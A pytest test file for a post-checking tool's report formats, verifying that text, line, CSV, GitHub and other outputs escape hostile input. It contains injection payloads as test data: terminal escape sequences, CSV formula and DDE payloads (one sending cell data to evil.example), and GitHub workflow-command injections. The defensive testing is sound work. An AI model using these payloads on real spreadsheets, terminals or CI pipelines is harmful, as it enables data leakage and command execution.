"""Hostile input never injects output: no terminal escapes in text and line reports, no formulas
in CSV, no workflow commands in the github format, and no format fails on a lone surrogate."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from skjult.checker import Checker
from skjult.cli import main
from skjult.items import Notice, Skip
from skjult.model import Post, PostResult
from skjult.report import FORMATTERS, formatter
from skjult.report.csv_format import cell
from skjult.report.github_format import markdown_summary
from skjult.report.summary import Report
from skjult.report.terminal import encodable, printable
from skjult.report.text_format import COLORS
from skjult.runinfo import describe_run

# What a caption, a creator name, an id or a file name may throw at a terminal: clear screen,
# a hyperlink (OSC 8, ended by BEL), a C1 CSI (U+009B), carriage return and backspace to
# overwrite what was printed, a line break to forge a line, and half an emoji pair.
ATTACK = ("\x1b[2J\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07\x9b31m"
          "\rOK\b\b\nforged: 0 violations\ud83c")
CONTROL = re.compile("[\x00-\x08\x0a-\x1f\x7f-\x9f\ud800-\udfff]")  # all but tab
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)",
            "-2+3", " =1+1", "\t=1+1", "\r=1+1", "＝1+1"]
TRIGGERS = frozenset("=+-@\t\r＝")


def render(fmt: str, checked: list[PostResult], report: Report | None = None, *,
           color: bool = False, **options: Any) -> str:
    """The report as bytes written through a strict UTF-8 stream, as to a real file."""
    raw = io.BytesIO()
    out = io.TextIOWrapper(raw, encoding="utf-8", errors="strict", newline="")
    sink = formatter(fmt, out, color=color, lang="en", options=options)
    report = report or Report()
    sink.start(describe_run(Checker().ruleset, "en", ["hostile.jsonl"]))
    for result in checked:
        report.add(result)
        sink.post(result)
    sink.finish(report)
    out.flush()
    return raw.getvalue().decode("utf-8")


def tainted(result: PostResult, attack: str, n: int = 0) -> PostResult:
    """The checked post with ``attack`` in every field that comes from the input. Set after
    checking: the formats are under test here, and a reader is what keeps a lone surrogate from
    reaching the checker (spaCy cannot encode one)."""
    post = result.post
    post.text += " " + attack  # after the findings' spans, which stay where they were
    post.id, post.creator, post.created_at = f"id{attack}", f"c{attack}", f"2024{attack}"
    post.file = f"{attack}{n}.jsonl"
    post.source = f"{post.file}:line {n + 1}"
    return result


def hostile_post(checker: Checker, n: int = 0) -> PostResult:
    """A violation whose every field from the input carries the attack."""
    return tainted(checker.check(Post(text="Tak for gaven @brand", platform="instagram")), ATTACK, n)


def hostile_report() -> Report:
    report = Report()
    report.skip(Skip(file=f"skip{ATTACK}", position=f"line 3{ATTACK}", reason=f"bad{ATTACK}"))
    report.notice(Notice(file=f"note{ATTACK}", message=f"said{ATTACK}"))
    report.file(f"unreadable{ATTACK}").error = f"broken{ATTACK}"
    return report


# -- printable ----------------------------------------------------------------------------


def test_printable_shows_control_characters_as_escapes() -> None:
    assert printable("a\x1b[31mb") == "a\\x1b[31mb"
    assert printable("\x1b]8;;https://x/\x07") == "\\x1b]8;;https://x/\\x07"
    assert printable("\x9b2J\x85") == "\\x9b2J\\x85"
    assert printable("ok\r\bX\x7f") == "ok\\r\\x08X\\x7f"
    assert printable("line\nnext\ttab") == "line\\nnext\\ttab"
    assert printable("half \ud83c") == "half \\ud83c"


def test_printable_keeps_what_the_caller_allows_and_all_printable_text() -> None:
    assert printable("a\nb\tc\x1b", keep="\n\t") == "a\nb\tc\\x1b"
    ordinary = "Reklame for @tehuset | æøå ÆØÅ 🍵 👩‍👩‍👧 «ny» – nbsp\u00a0here €"
    assert printable(ordinary) == ordinary
    assert encodable("Tak \ud83c!") == "Tak \ufffd!" and encodable(ordinary) == ordinary


# -- text and line ------------------------------------------------------------------------


def test_text_report_prints_no_control_sequence_from_the_input(checker_en: Checker) -> None:
    out = render("text", [hostile_post(checker_en)], hostile_report())
    assert not CONTROL.search(out.replace("\n", ""))
    assert "\\x1b[2J" in out and "\\x9b31m" in out  # shown, not acted on
    assert "\nforged" not in out  # a line break in the input cannot start a report line


def test_colour_codes_are_ours_only(checker_en: Checker) -> None:
    out = render("text", [hostile_post(checker_en)], hostile_report(), color=True)
    assert COLORS["error"] in out and COLORS["mark"] in out
    for code in COLORS.values():
        out = out.replace(code, "")
    assert "\x1b" not in out and not CONTROL.search(out.replace("\n", ""))


def test_line_report_is_one_line_per_finding_and_skip(checker_en: Checker) -> None:
    checked = [hostile_post(checker_en, n) for n in range(3)]
    out = render("line", checked, hostile_report())
    lines = out.split("\n")
    assert lines.pop() == ""
    assert len(lines) == sum(len(r.findings) for r in checked) + 1  # + the skip
    assert all(line.startswith(("\\x1b[2J", "skip\\x1b[2J")) for line in lines)
    assert not CONTROL.search("".join(lines))


# -- csv ----------------------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_would_start_a_formula_gets_a_quote(text: str) -> None:
    assert cell(text) == "'" + text


def test_ordinary_cells_and_numbers_are_unchanged() -> None:
    for value in ("anne", "2024-05-01", "a=b", "Tak @brand", "", "'quoted", 0, 7):
        assert cell(value) == value


def formula_posts(checker: Checker) -> list[PostResult]:
    return [checker.check(Post(text="Tak for gaven @brand", id=text, creator=text,
                               platform="instagram", created_at=text, url=text, file=text,
                               source=text)) for text in FORMULAS]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("per", ["post", "creator"])
def test_csv_neutralises_formulas_in_every_mode(checker: Checker, per: str, delimiter: str) -> None:
    out = render("csv", formula_posts(checker), per=per, delimiter=delimiter)
    rows = list(csv.reader(io.StringIO(out, newline=""), delimiter=delimiter))
    head, body = rows[0], rows[1:]
    assert len(body) == len(FORMULAS)
    hostile = ["id", "creator", "created_at", "url", "source"] if per == "post" else ["creator"]
    for row in body:
        values = dict(zip(head, row, strict=True))
        for column in hostile:
            assert values[column][0] == "'" and values[column][1:] in FORMULAS, (column, values)
        for value in row:  # nothing a spreadsheet would evaluate, in any column
            assert value[:1] not in TRIGGERS and value.lstrip()[:1] not in TRIGGERS, value
    if per == "creator":
        assert all(values.isdigit() for row in body for values in row[1:6])  # counts stay numbers


# -- github -------------------------------------------------------------------------------

COMMAND = re.compile(r"::(error|warning|notice)( [^:\r\n]*)?::[^\r\n]*")
PROPERTIES = {"file", "line", "col", "endLine", "endColumn", "title"}
INJECTIONS = ["x\n::set-output name=x::y", "::error::owned", "  ::warning::indented",
              "y\r::add-mask::secret", "##[set-output name=z;]legacy", "%0A::error::encoded",
              "a,b:c=d"]


def unescape(text: str, prop: bool) -> str:
    if prop:
        text = text.replace("%3A", ":").replace("%2C", ",")
    return text.replace("%0D", "\r").replace("%0A", "\n").replace("%25", "%")


def check_commands(out: str) -> list[tuple[str, dict[str, str], str]]:
    """Every line the runner would take for a command is one of ours and parses; returns them.

    The runner splits output at \\n and \\r, trims leading white space, and also acts on the
    legacy ``##[command]`` anywhere in a line."""
    commands = []
    for line in re.split(r"\r\n|\r|\n", out):
        if not line.lstrip().startswith("::"):
            assert "##[" not in line, line
            continue
        assert COMMAND.fullmatch(line), line  # (parsed as ours, a line is not searched for ##[)
        head, _, data = line[2:].partition("::")
        kind, _, props = head.partition(" ")
        pairs = dict(p.split("=", 1) for p in props.split(",")) if props else {}
        assert set(pairs) <= PROPERTIES, line
        commands.append((kind, {k: unescape(v, True) for k, v in pairs.items()},
                         unescape(data, False)))
    return commands


def test_github_output_carries_no_command_but_ours(checker: Checker, tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path / "summary.md"))
    checked = [checker.check(Post(text="Brug koden SOMMER20 hos @butik", file=name,
                                  source=f"{name}:line 1", creator=name, id=name))
               for name in INJECTIONS * 3]  # past the 10 annotations GitHub shows
    for result in checked:
        result.post.text += ATTACK
    report = Report()
    report.skip(Skip(file=INJECTIONS[0], position="line 2", reason=INJECTIONS[1]))
    out = render("github", checked, report)
    commands = check_commands(out)
    annotations = [(kind, props) for kind, props, _ in commands if "file" in props]
    assert [props["file"] for _, props in annotations] == (INJECTIONS * 2)[:10]  # intact
    assert all(kind == "error" and props["title"] == "dk.label-missing" for kind, props in annotations)
    others = [c for c in commands if "file" not in c[1]]  # only the two we write at the end:
    assert len(others) == 2 and others[0][0] == "notice" and "more findings" in others[0][2]
    assert out.count("dk.label-missing") == len(checked)  # the rest are plain log lines
    assert ("warning", {"title": "skipped"}, f"{INJECTIONS[0]}:line 2: {INJECTIONS[1]}") \
        in commands
    assert not CONTROL.search(out.replace("\n", ""))  # no terminal escapes in the log


def test_step_summary_keeps_creator_names_in_their_cells(checker: Checker) -> None:
    report = Report()
    hostile = "a|b\n# Heading\n![x](https://evil.example/p.png) <img src=x> @someone"
    report.add(checker.check(Post(text="Tak for gaven @brand", creator=hostile)))
    lines = markdown_summary(report).splitlines()
    row = lines[4]
    assert len(lines) == 8 and row.startswith("| a\\|b\\\\n# Heading")
    assert len(re.findall(r"(?<!\\)\|", row)) == 8  # the row's own borders, no more
    assert "![" not in row and "\\<img" in row and "\\@someone" in row  # shown, not acted on


# -- lone surrogates ----------------------------------------------------------------------


# The formats that write text (parquet writes bytes to a file: its own test below).
TEXT_FORMATS = sorted(name for name in FORMATTERS if name != "parquet")


@pytest.mark.parametrize("fmt", TEXT_FORMATS)
def test_every_format_writes_a_lone_surrogate(checker: Checker, fmt: str) -> None:
    half = "\ud83c"
    checked = tainted(checker.check(Post(text="Tak for gaven @brand #ad")), half)
    report = Report()
    report.skip(Skip(file=f"f{half}.jsonl", position="line 2", reason=f"bad {half}"))
    out = render(fmt, [checked], report)
    assert "\ufffd" in out or "\\ud83c" in out
    if fmt == "jsonl":
        assert json.loads(out)["caption"] == "Tak for gaven @brand #ad \ufffd"


@pytest.mark.parametrize("fmt", TEXT_FORMATS)
def test_the_cli_reports_a_lone_surrogate_in_every_format(tmp_path: Path, fmt: str) -> None:
    posts = tmp_path / "posts.jsonl"
    posts.write_text('{"caption": "Tak \\ud83c @brand #ad", "creator": "x\\ud83c"}\n',
                     encoding="utf-8")
    target = tmp_path / f"report.{fmt}"
    to_file = CliRunner().invoke(main, ["check", str(posts), "--format", fmt, "-o", str(target),
                                        "--no-config"])
    assert to_file.exit_code == 1, to_file.output
    target.read_text(encoding="utf-8")  # valid UTF-8
    to_stdout = CliRunner().invoke(main, ["check", str(posts), "--format", fmt, "--no-config"])
    assert to_stdout.exit_code == 1, to_stdout.output
    assert "#ad" in to_stdout.stdout


def test_parquet_output_replaces_a_lone_surrogate_and_needs_a_file(tmp_path: Path) -> None:
    pq = pytest.importorskip("pyarrow.parquet")
    posts = tmp_path / "posts.jsonl"
    posts.write_text('{"caption": "Tak \\ud83c @brand #ad", "creator": "x\\ud83c"}\n',
                     encoding="utf-8")
    target = tmp_path / "report.parquet"
    to_file = CliRunner().invoke(main, ["check", str(posts), "--format", "parquet", "-o",
                                        str(target), "--no-config"])
    assert to_file.exit_code == 1, to_file.output
    row = pq.read_table(target).to_pylist()[0]
    assert row["creator"] == "x\ufffd" and "\ufffd" in row["caption"]
    to_stdout = CliRunner().invoke(main, ["check", str(posts), "--format", "parquet",
                                          "--no-config"])
    assert to_stdout.exit_code == 2 and "-o" in to_stdout.stderr
